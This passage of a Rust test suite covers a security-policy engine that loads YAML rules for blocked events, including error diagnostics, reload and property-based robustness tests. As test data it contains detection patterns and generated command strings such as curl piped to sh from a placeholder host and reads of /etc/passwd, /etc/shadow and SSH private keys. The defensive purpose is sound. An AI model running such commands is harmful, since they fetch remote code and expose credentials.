    assert_eq!(a("ttl: 15"), [codes::DURATION]);
    assert_eq!(a("ttl: 1w"), [codes::DURATION]);
    assert_eq!(a("retry: {after: 0m}"), [codes::DURATION]);
    assert!(load(&[("p.yaml", "- policy: t\n  id: t\n  match: {stopped: true}\n  action: {do_not_retry: {scope: host, ttl: 1h30m, retry: {after: 15m}}}\n")]).is_ok());
}

#[test]
fn p070_fixture_problems() {
    let t = |case: &str| {
        format!(
            "- policy: t\n  id: t\n  match: {{stopped: true}}\n  action: ignore\n  tests:\n    - {case}\n"
        )
    };
    assert_eq!(
        errors(&[(
            "p.yaml",
            &t("{name: n, event: {disposition: blocked, proces: {}}, expect: {policy: t}}")
        )]),
        [(codes::FIXTURE, 6, 47)]
    );
    assert_eq!(
        codes_of(&t("{name: n, event: fixtures/x.json, expect: {policy: t}}")),
        [codes::FIXTURE],
        "no files for sets from memory"
    );
    assert_eq!(
        codes_of(&t("{name: n, event: {}, expect: {policy: t, action: ignore, scope: path}}")),
        [codes::CONFLICT]
    );
    assert_eq!(codes_of(&t("{name: n, event: {}}")), [codes::MISSING_KEY]);
    assert_eq!(
        codes_of(&t("{name: n, event: {}, expect: {policy: none, action: ignore}}")),
        [codes::CONFLICT]
    );
}

#[test]
fn fixture_files_are_read_relative_to_the_folder_and_stay_inside_it() {
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::create_dir(dir.path().join("fixtures")).expect("mkdir");
    std::fs::write(
        dir.path().join("fixtures/e.json"),
        r#"{"disposition":"blocked","integration":"falco","trust":"local","raw":{}}"#,
    )
    .expect("write");
    std::fs::write(dir.path().join("fixtures/bad.json"), "{\n  \"disposition\": \"blockd\"\n}\n")
        .expect("write");
    let policy = "- policy: t\n  id: t\n  match: {stopped: true, integration: falco, trust: local}\n  action: ignore\n  tests:\n    - {name: from file, event: fixtures/e.json, expect: {policy: t}}\n";
    std::fs::write(dir.path().join("p.yaml"), policy).expect("write");
    let s = PolicySet::load_dir(dir.path()).unwrap_or_else(|d| panic!("{d}"));
    assert_eq!(s.run_tests(dir.path()).summary(), "1 passed, 0 failed");

    let bad = "- policy: t\n  id: t\n  match: {stopped: true}\n  action: ignore\n  tests:\n    - {name: a, event: ../e.json, expect: {policy: t}}\n    - {name: b, event: fixtures/missing.json, expect: {policy: t}}\n    - {name: c, event: fixtures/bad.json, expect: {policy: t}}\n";
    std::fs::write(dir.path().join("p.yaml"), bad).expect("write");
    let d = PolicySet::load_dir(dir.path()).expect_err("errors");
    let got: Vec<(String, usize, &str)> =
        d.0.iter()
            .map(|d| (d.file.file_name().and_then(|f| f.to_str()).unwrap_or("").to_string(), d.line, d.code))
            .collect();
    assert_eq!(
        got,
        [
            ("bad.json".into(), 2, codes::FIXTURE),
            ("p.yaml".into(), 6, codes::FIXTURE),
            ("p.yaml".into(), 7, codes::FIXTURE),
            ("p.yaml".into(), 8, codes::FIXTURE),
        ]
    );
}

// ------------------------------------------------------------------------------------------
// The acceptance case and reload
// ------------------------------------------------------------------------------------------

const GOOD: &str = "\
- list: shells
  items: [sh, bash]
- policy: pipe to shell
  id: pipe-to-shell
  match:
    stopped: true
    process.name|in_list: shells
  action: {do_not_retry: {scope: similar}}
";

/// A typo'd key, an unknown key, a bad regex and an undefined list, in two files.
const BROKEN_A: &str = "\
- policy: pipe to shell
  id: pipe-to-shell
  priorty: high
  match:
    stopped: true
    process.cmd_line|re: 'curl.*(sh'
  action: {do_not_retry: {scope: similar}}
";
const BROKEN_B: &str = "\
- policy: shells
  id: shells
  match:
    process.name|in_list: shellz
  colour: red
  action: ignore
";

#[test]
fn acceptance_four_problems_in_one_run_with_positions() {
    let d = load(&[("a.yaml", BROKEN_A), ("b.yaml", BROKEN_B)]).expect_err("errors");
    let got: Vec<(&str, &'static str, usize, usize)> =
        d.0.iter().map(|d| (d.file.to_str().unwrap_or(""), d.code, d.line, d.col)).collect();
    assert_eq!(
        got,
        [
            ("a.yaml", codes::UNKNOWN_KEY, 3, 3),
            ("a.yaml", codes::REGEX, 6, 26),
            ("b.yaml", codes::UNDEFINED_LIST, 4, 27),
            ("b.yaml", codes::UNKNOWN_KEY, 5, 3),
        ]
    );
    let text = d.to_string();
    assert!(text.contains("a.yaml:3:3: error[P011]: unknown key `priorty` in a policy (did you mean `priority`?)\n 3 |   priorty: high\n   |   ^^^^^^^"), "{text}");
    assert!(text.contains("b.yaml:4:27: error[P040]: list `shellz` is not defined"), "{text}");
}

#[test]
fn reload_is_all_or_nothing_and_keeps_the_last_good_set() {
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::write(dir.path().join("a.yaml"), GOOD).expect("write");
    let live = LivePolicies::new(PolicySet::built_in());
    let good = live.reload(dir.path()).unwrap_or_else(|d| panic!("{d}"));
    assert_eq!(live.current().hash(), good.hash());

    std::fs::write(dir.path().join("a.yaml"), BROKEN_A).expect("write");
    std::fs::write(dir.path().join("b.yaml"), BROKEN_B).expect("write");
    let d = live.reload(dir.path()).expect_err("broken folder is refused");
    assert_eq!(d.len(), 4);
    assert_eq!(live.current().hash(), good.hash(), "the last good set stays in service");
    let ev = event(json!({"disposition": "blocked", "process": {"exe": "/bin/bash"}}));
    assert_eq!(decided(&live.current(), &EvalInput::event_only(&ev)).as_deref(), Some("pipe-to-shell"));
}

// ------------------------------------------------------------------------------------------
// Hash and tests beside policies
// ------------------------------------------------------------------------------------------

#[test]
fn hash_covers_names_and_bytes_in_name_order() {
    let a = load(&[("a.yaml", GOOD)]).expect("loads");
    let renamed = load(&[("b.yaml", GOOD)]).expect("loads");
    let edited = load(&[("a.yaml", &format!("{GOOD}# comment\n"))]).expect("loads");
    let two = load(&[("a.yaml", GOOD), ("z.yaml", "# empty\n")]).expect("loads");
    let two_swapped = load(&[("z.yaml", "# empty\n"), ("a.yaml", GOOD)]).expect("loads");
    assert_eq!(a.hash().len(), 64);
    assert_ne!(a.hash(), renamed.hash());
    assert_ne!(a.hash(), edited.hash());
    assert_eq!(two.hash(), two_swapped.hash());
}

#[test]
fn failing_tests_are_reported_one_line_each_with_the_summary() {
    let yaml = "\
- policy: t
  id: t
  match: {stopped: true}
  agent: {session: required}
  action: {do_not_retry: {scope: path}}
  tests:
    - name: right
      event: {disposition: blocked}
      agent: {command: ls}
      expect: {policy: t, action: do_not_retry, scope: path, retry: never}
    - name: wrong scope
      event: {disposition: blocked}
      agent: {}
      expect: {policy: t, scope: host}
    - name: wrong policy
      event: {disposition: blocked}
      expect: {policy: t}
    - name: wrong retry
      event: {disposition: blocked}
      agent: {}
      expect: {policy: t, retry: {after: 5m}}
";
    let report = set(yaml).run_tests(Path::new(""));
    assert_eq!(report.summary(), "1 passed, 3 failed");
    let lines: Vec<String> = report.failures().map(|f| f.to_string()).collect();
    assert_eq!(
        lines,
        [
            "p.yaml:11:7: t \"wrong scope\": FAIL: expected scope host, got do_not_retry (scope path, retry never, until cleared)",
            "p.yaml:15:7: t \"wrong policy\": FAIL: expected `t` to decide, but no policy matched",
            "p.yaml:18:7: t \"wrong retry\": FAIL: expected retry after 5m, got do_not_retry (scope path, retry never, until cleared)",
        ]
    );
    let explained = set(yaml).run_tests_explained(Path::new(""));
    assert_eq!(explained.cases.len(), 4);
    assert!(explained.cases.iter().all(|c| c.trace.len() == 1));
}

#[test]
fn tests_of_disabled_policies_are_skipped() {
    let tuning = "- tuning: pipe-to-shell\n  enabled: false\n";
    let with_test = format!("{BASE}  tests:\n    - {{name: n, event: {{disposition: blocked, process: {{cmd_line: 'a | sh'}}}}, expect: {{policy: pipe-to-shell}}}}\n");
    let s = load(&[("a.yaml", &with_test), ("b.yaml", tuning)]).expect("loads");
    let report = s.run_tests(Path::new(""));
    assert_eq!((report.passed, report.failed, report.skipped), (0, 0, 1));
}

// ------------------------------------------------------------------------------------------
// Robustness: the loader never panics
// ------------------------------------------------------------------------------------------

mod robustness {
    use super::*;
    use proptest::prelude::*;

    /// Words the loader reacts to, so generated documents reach deep into compilation.
    const WORDS: &[&str] = &[
        "policy",
        "id",
        "list",
        "macro",
        "tuning",
        "match",
        "agent",
        "action",
        "tests",
        "items",
        "append",
        "exceptions",
        "name",
        "event",
        "expect",
        "do_not_retry",
        "scope",
        "retry",
        "after",
        "ttl",
        "until_cleared",
        "halt_session",
        "ignore",
        "note",
        "priority",
        "enabled",
        "min_trust",
        "any",
        "all",
        "not",
        "session",
        "required",
        "host|re",
        "process.cmd_line|contains",
        "severity|gte",
        "stopped",
        "process.name|in_list",
        "target.file|glob",
        "agent.blocks|gt",
        "command",
        "similar",
        "high",
        "x",
        "[",
        "(?",
        "**",
        "15m",
        "0s",
        "true",
        "none",
        "|",
        "*",
        "&a",
        "*a",
        "~",
    ];

    fn scalar() -> impl Strategy<Value = String> {
        prop_oneof![
            proptest::sample::select(WORDS).prop_map(str::to_string),
            "[a-z|.*?(\\[\\]]{0,8}",
            any::<i64>().prop_map(|n| n.to_string()),
        ]
    }

    /// Random YAML-ish documents built from the language's own words.
    fn doc() -> impl Strategy<Value = String> {
        let leaf = scalar().prop_map(|s| format!("{s:?}"));
        leaf.prop_recursive(4, 48, 6, |inner| {
            prop_oneof![
                proptest::collection::vec(inner.clone(), 0..5).prop_map(|v| format!("[{}]", v.join(", "))),
                proptest::collection::vec((scalar(), inner), 0..5).prop_map(|kv| {
                    let body: Vec<String> = kv.into_iter().map(|(k, v)| format!("{k:?}: {v}")).collect();
                    format!("{{{}}}", body.join(", "))
                }),
            ]
        })
    }

    /// A random match block (as JSON, which is YAML) from a small vocabulary, so that
    /// generated policies and events actually meet.
    fn block(depth: u32) -> BoxedStrategy<serde_json::Value> {
        const TEXT_FIELDS: &[&str] = &[
            "process.cmd_line",
            "process.exe",
            "process.name",
            "target.file",
            "target.host",
            "host",
            "attacks",
            "agent.command",
        ];
        const WORDS: &[&str] = &[
            "curl",
            "wget",
            "| sh",
            "/etc/",
            "ssh",
            "id_rsa",
            "CURL",
            "x.example",
            "ci-",
            "dev",
            "T1059",
            "/usr/bin/curl",
            "",
        ];
        const PATTERNS: &[&str] = &[
            "curl.*sh",
            "^wget",
            "(?i)ssh",
            "[a-z]+\\.example",
            "id_(rsa|ed25519)",
            "T10[0-9]+",
            "(curl|wget) ",
            "ci-.*",
        ];
        const GLOBS: &[&str] = &["*.example", "/etc/*", "**/id_*", "*curl*", "ci-*", "/usr/bin/?url"];
        let word = proptest::sample::select(WORDS).prop_map(|w| json!(w));
        let words = proptest::collection::vec(proptest::sample::select(WORDS), 1..3).prop_map(|w| json!(w));
        let text_test = (
            proptest::sample::select(TEXT_FIELDS),
            prop_oneof![
                word.clone().prop_map(|v| ("", v)),
                words.clone().prop_map(|v| ("|in", v)),
                word.clone().prop_map(|v| ("|contains", v)),
                words.clone().prop_map(|v| ("|contains|all", v)),
                word.clone().prop_map(|v| ("|startswith", v)),
                word.clone().prop_map(|v| ("|endswith|nocase", v)),
                word.clone().prop_map(|v| ("|contains|nocase", v)),
                proptest::sample::select(PATTERNS).prop_map(|v| ("|re", json!(v))),
                proptest::sample::select(GLOBS).prop_map(|v| ("|glob", json!(v))),
                proptest::sample::select(GLOBS).prop_map(|v| ("|glob|nocase", json!(v))),
                any::<bool>().prop_map(|b| ("|exists", json!(b))),
            ],
        )
            .prop_map(|(f, (m, v))| json!({ format!("{f}{m}"): v }));
        let other = prop_oneof![
            proptest::sample::select(&[0u32, 1000, 4242][..]).prop_map(|n| json!({"process.uid": n})),
            proptest::sample::select(&[0u32, 1000][..]).prop_map(|n| json!({"process.uid|in": [n, 7]})),
            proptest::sample::select(&[0u32, 999][..]).prop_map(|n| json!({"process.uid|gt": n})),
            any::<bool>().prop_map(|b| json!({"stopped": b})),
            proptest::sample::select(&["required", "forbidden", "any"][..])
                .prop_map(|s| json!({"agent.session": s})),
            proptest::sample::select(&["medium", "high"][..]).prop_map(|s| json!({"severity|gte": s})),
        ];
        let leaf = prop_oneof![3 => text_test, 1 => other].boxed();
        if depth == 0 {
            return leaf;
        }
        let inner = block(depth - 1);
        prop_oneof![
            4 => proptest::collection::vec(leaf.clone(), 1..3).prop_map(merge),
            1 => proptest::collection::vec(inner.clone(), 1..3).prop_map(|v| json!({"any": v})),
            1 => proptest::collection::vec(inner.clone(), 1..3).prop_map(|v| json!({"all": v})),
            1 => (inner, leaf).prop_map(|(i, l)| { let mut m = merge(vec![l]); m["not"] = i; m }),
        ]
        .boxed()
    }

    /// One map from several single-entry maps (a repeated key keeps the last).
    fn merge(parts: Vec<serde_json::Value>) -> serde_json::Value {
        let mut out = serde_json::Map::new();
        for p in parts {
            if let serde_json::Value::Object(m) = p {
                out.extend(m);
            }
        }
        serde_json::Value::Object(out)
    }

    fn generated_event() -> impl Strategy<Value = (serde_json::Value, Option<String>, bool)> {
        const PARTS: &[&str] = &[
            "curl",
            "wget",
            "-s",
            "https://x.example/i.sh",
            "|",
            "sh",
            "CURL",
            "cat",
            "/etc/passwd",
            "~/.ssh/id_rsa",
            "ci-7",
        ];
        let line = proptest::collection::vec(proptest::sample::select(PARTS), 0..5).prop_map(|w| w.join(" "));
        let opt = |s: &'static [&'static str]| proptest::option::of(proptest::sample::select(s));
        (
            proptest::option::of(line.clone()),
            opt(&["/usr/bin/curl", "/bin/sh", "/usr/bin/wget"]),
            opt(&["/etc/shadow", "/home/dev/.ssh/id_rsa", "/tmp/x"]),
            opt(&["x.example", "ci-1", "a.example.org"]),
            opt(&["dev", "ci-3"]),
            proptest::option::of(proptest::sample::select(&[0u32, 1000, 4242][..])),
            proptest::sample::select(&["blocked", "detected"][..]),
            proptest::sample::select(&["low", "high"][..]),
            proptest::collection::vec(proptest::sample::select(&["T1059.004", "T1105"][..]), 0..2),
            proptest::option::of(line),
            any::<bool>(),
        )
            .prop_map(|(cmd, exe, file, thost, host, uid, disp, sev, attacks, agent_cmd, in_session)| {
                let mut process = serde_json::Map::new();
                if let Some(c) = cmd { process.insert("cmd_line".into(), json!(c)); }
                if let Some(e) = exe { process.insert("exe".into(), json!(e)); }
                if let Some(u) = uid { process.insert("uid".into(), json!(u)); }
                let mut target = serde_json::Map::new();
                if let Some(f) = file { target.insert("file".into(), json!(f)); }
                if let Some(h) = thost { target.insert("host".into(), json!(h)); }
                let mut body = json!({"disposition": disp, "severity": sev, "attacks": attacks, "process": process, "target": target});
                if let Some(h) = host { body["host"] = json!(h); }
                (body, agent_cmd, in_session)
            })
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 400, ..ProptestConfig::default() })]

        /// The literal prefilter never changes a decision: indexed and exhaustive evaluation
        /// agree on generated policy sets and events.
        #[test]
        fn the_prefilter_never_changes_a_decision(
            blocks in proptest::collection::vec((block(2), proptest::sample::select(Priority::NAMES)), 1..10),
            events in proptest::collection::vec(generated_event(), 1..8),
        ) {
            let mut text = String::new();
            for (i, (b, prio)) in blocks.iter().enumerate() {
                text.push_str(&format!("- policy: p{i}\n  id: p{i}\n  priority: {prio}\n  match: {b}\n  action: ignore\n"));
            }
            let Ok(set) = load(&[("p.yaml", &text)]) else { return Ok(()) };
            for (body, agent_cmd, in_session) in events {
                let ev = event(body);
                let (s, corr) = (session(), matched());
                let c = agent_cmd.map(|cmd| call("Bash", json!({"command": cmd})));
                let input = if in_session {
                    EvalInput { event: &ev, correlation: Some(&corr), session: Some(&s), command: c.as_ref(), prior_blocks: 0 }
                } else {
                    EvalInput::event_only(&ev)
                };
                let fast = set.evaluate(&input).map(|d| d.policy_id);
                let slow = set.evaluate_unindexed(&input).map(|d| d.policy_id);
                prop_assert_eq!(fast, slow, "policies:\n{}\nevent: {:?}", text, ev.body);
            }
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]

        #[test]
        fn arbitrary_text_never_panics(text in "\\PC{0,300}") {
            let _ = load(&[("p.yaml", &text)]);
        }

        #[test]
        fn arbitrary_bytes_of_yaml_punctuation_never_panic(text in "[-:{}\\[\\]|>&*!#?,'\" \n\ta-z0-9]{0,200}") {
            let _ = load(&[("p.yaml", &text)]);
        }

        #[test]
        fn generated_documents_never_panic_and_loaded_sets_evaluate(items in proptest::collection::vec(doc(), 0..6)) {
            let text: String = items.iter().map(|i| format!("- {i}\n")).collect();
            if let Ok(set) = load(&[("p.yaml", &text)]) {
                let ev = event(json!({"disposition": "blocked", "host": "h", "process": {"cmd_line": "curl x | sh"}}));
                let _ = set.evaluate(&EvalInput::event_only(&ev));
                let _ = set.explain(&EvalInput::event_only(&ev));
                let _ = set.run_tests(Path::new(""));
            }
        }
    }
}
